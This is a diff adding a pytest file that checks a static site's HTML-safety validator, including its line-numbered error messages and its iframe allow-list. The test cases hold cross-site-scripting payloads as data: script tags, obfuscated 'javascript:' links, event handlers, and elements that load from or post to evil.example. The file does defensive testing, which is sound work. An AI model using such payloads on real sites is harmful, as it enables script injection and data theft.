@@ -1,0 +1,163 @@
+"""Content safety (travinh_site.safety): unsafe HTML in a page stops the build with the file,
+the line and the fix; allowed frames pass; code examples are text."""
+
+from __future__ import annotations
+
+import re
+
+import markdown
+import pytest
+
+from tests.conftest import TinySite
+from travinh_site import safety
+
+YOUTUBE = "https://www.youtube-nocookie.com/embed/"
+EXTENSIONS = ["attr_list", "md_in_html", "pymdownx.superfences"]
+
+
+def problems_of(source: str, frames: tuple[str, ...] = ()) -> list[str]:
+    """The problems of a page body, rendered as the site renders Markdown (English lines)."""
+    html = markdown.markdown(source, extensions=EXTENSIONS)
+    rules = safety.frame_rules(frames)
+    found = safety.check_page(html, source, "docs/x.md", 1, rules)
+    assert all(problem.problem_vi and problem.fix_vi for problem in found)  # for the editors
+    return [problem.english() for problem in found]
+
+
+# Columns: Markdown of a page; the start of the problem reported (with its line), or None.
+CASES = [
+    ("Text.\n\n<script>alert(1)</script>\n", "docs/x.md:3: a <script> element is not allowed"),
+    ("<SCRIPT src='https://evil.example/x.js'></SCRIPT>\n", "docs/x.md:1: a <script> element"),
+    ("[x](javascript:alert(1))\n", "docs/x.md:1: the href of <a> is a 'javascript:' address"),
+    # Character references and tabs do not hide the scheme (browsers decode and drop them).
+    ("\n[x](JaVa&#x53;cript:alert(1))\n", "docs/x.md:2: the href of <a> is a 'javascript:'"),
+    ('<a href="java\tscript:alert(1)">x</a>\n', "docs/x.md:1: the href of <a> is a 'javascript:'"),
+    ("[x][r]\n\n[r]: vbscript:msgbox\n", "docs/x.md:3: the href of <a> is a 'vbscript:' address"),
+    ('<img src="a.png" alt="" onerror="alert(1)">\n', "docs/x.md:1: the attribute 'onerror'"),
+    # attr_list sets attributes too.
+    ('[x](y.md){ onclick="alert(1)" }\n', "docs/x.md:1: the attribute 'onclick' on <a>"),
+    ('<iframe src="https://evil.example/x"></iframe>\n', "docs/x.md:1: the <iframe> shows"),
+    (f'<iframe src="{YOUTUBE}abc" srcdoc="<b>x</b>"></iframe>\n', "docs/x.md:1: the <iframe>"),
+    (f'<iframe src="{YOUTUBE}abc"></iframe>\n', "docs/x.md:1: the <iframe> has no title"),
+    (f'<iframe src="{YOUTUBE}abc" title="Ao Bà Om"></iframe>\n', None),
+    # A look-alike host is not the allowed one.
+    (
+        '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x" title="x"></iframe>\n',
+        "docs/x.md:1: the <iframe> shows",
+    ),
+    ('<form action="https://evil.example/"><input name="p"></form>\n', "docs/x.md:1: a <form>"),
+    (
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
+        "docs/x.md:1: a <meta>",
+    ),
+    ('<object data="x.swf"></object>\n', "docs/x.md:1: a <object> element is not allowed"),
+    ('<a href="data:text/html,&lt;b&gt;x">x</a>\n', "docs/x.md:1: the href of <a> is a 'data:'"),
+    ('<img src="data:image/png;base64,AAAA" alt="dot">\n', None),
+    (
+        "<style>@import url('https://evil.example/x.css');</style>\n",
+        "docs/x.md:1: a <style> element imports styles from 'https://evil.example/x.css'",
+    ),
+    (
+        "<style>p { background: url(//evil.example/x.png) }</style>\n",
+        "docs/x.md:1: a <style> element loads '//evil.example/x.png'",
+    ),
+    ("<style>p { background: url(../assets/images/x.png) }</style>\n", None),
+    (
+        '<p style="background:url(https://evil.example/t.png)">x</p>\n',
+        "docs/x.md:1: the style attribute of <p> loads",
+    ),
+    (
+        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n',
+        "docs/x.md:1: the xlink:href of <a>",
+    ),
+    (
+        '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>\n',
+        "docs/x.md:1: the to of <set>",
+    ),
+    # Examples in code are text, not HTML.
+    ("Use `<script>` carefully.\n\n```html\n<script>alert(1)</script>\n```\n", None),
+    ("    <script>indented code</script>\n", None),
+    ("<!-- <script>alert(1)</script> -->\n", None),
+    # Ordinary content passes.
+    ("# Title\n\n[A page](../du-lich/ao-ba-om.md) and <https://example.org/>.\n", None),
+    ("<figure markdown>\n![Ao](a.svg)\n<figcaption>Ao Bà Om</figcaption>\n</figure>\n", None),
+]
+
+
+@pytest.mark.parametrize(("source", "expected"), CASES)
+def test_unsafe_html_is_refused_with_its_line(source: str, expected: str | None):
+    problems = problems_of(source, (YOUTUBE,))
+    if expected is None:
+        assert problems == []
+    else:
+        assert len(problems) == 1 and problems[0].startswith(expected), problems
+        assert " Fix: " in problems[0]
+
+
+def test_each_finding_gets_the_line_of_its_own_occurrence():
+    source = (
+        "# T\n\n```\n<script>in code</script>\n```\n\n"  # lines 3-5: code, ignored
+        "<script>one()</script>\n\n"  # line 7
+        "Text [a](javascript:a()) and [b](javascript:b()).\n\n"  # line 9
+        "<script>two()</script>\n"  # line 11
+    )
+    lines = [re.match(r"docs/x.md:(\d+):", p).group(1) for p in problems_of(source)]
+    assert lines == ["7", "9", "9", "11"]
+
+
+@pytest.mark.parametrize(
+    "prefix",
+    ["http://maps.example/embed/", "https://maps.example", "https://maps.example/embed", "x"],
+)
+def test_allowed_frames_must_be_https_prefixes_ending_with_a_slash(prefix: str):
+    with pytest.raises(ValueError, match="allowed_iframes entry"):
+        safety.frame_rules([prefix])
+
+
+def test_unsafe_page_stops_the_build_with_file_line_and_fix(tiny_site: TinySite):
+    tiny_site.write(
+        "docs_km/index.md",
+        "---\ntitle: ទំព័រដើម\ndescription: ទំព័រដើម។\n---\n\n# ទំព័រដើម\n\n"
+        '<a href="javascript:alert(1)">ចុច</a>\n\n<script>steal()</script>\n',
+    )
+    result = tiny_site.build()
+    assert result.returncode != 0
+    assert (
+        "docs_km/index.md:8: the href of <a> is a 'javascript:' address, which runs a program "
+        "when used. Fix: link to a page of the site or to a web address (https://…) instead."
+    ) in result.output
+    assert "docs_km/index.md:10: a <script> element is not allowed in a page" in result.output
+    assert "docs_km/index.md:10: không được dùng thẻ <script> trong trang" in result.output
+    assert "Traceback" not in result.output
+
+
+def test_a_frame_from_an_allowed_address_is_built_and_allowed_by_the_policy(tiny_site: TinySite):
+    config = tiny_site.root / "mkdocs.yml"
+    config.write_text(
+        config.read_text("utf-8").replace("allowed_iframes: []", f"allowed_iframes: [{YOUTUBE}]"),
+        encoding="utf-8",
+    )
+    tiny_site.write(
+        "docs_en/index.md",
+        "---\ntitle: Home\ndescription: Home.\n---\n\n# Home\n\n"
+        f'<iframe src="{YOUTUBE}abc" title="A film of Ba Om Pond"></iframe>\n',
+    )
+    result = tiny_site.build()
+    assert result.returncode == 0, result.output
+    assert f'<iframe src="{YOUTUBE}abc"' in result.text("en/index.html")
+    assert f"frame-src {YOUTUBE};" in result.text("_headers")
+    assert f"frame-src {YOUTUBE};" in result.text("en/index.html")  # the page's own policy
+    assert 'fullscreen=("https://www.youtube-nocookie.com")' in result.text("_headers")
+
+
+def test_a_misconfigured_allowed_frame_names_the_setting(tiny_site: TinySite):
+    config = tiny_site.root / "mkdocs.yml"
+    config.write_text(
+        config.read_text("utf-8").replace("allowed_iframes: []", "allowed_iframes: [x.org]"),
+        encoding="utf-8",
+    )
+    result = tiny_site.build()
+    assert result.returncode != 0
+    assert "mkdocs.yml: allowed_iframes entry 'x.org' must be the beginning of https" in (
+        result.output
+    )
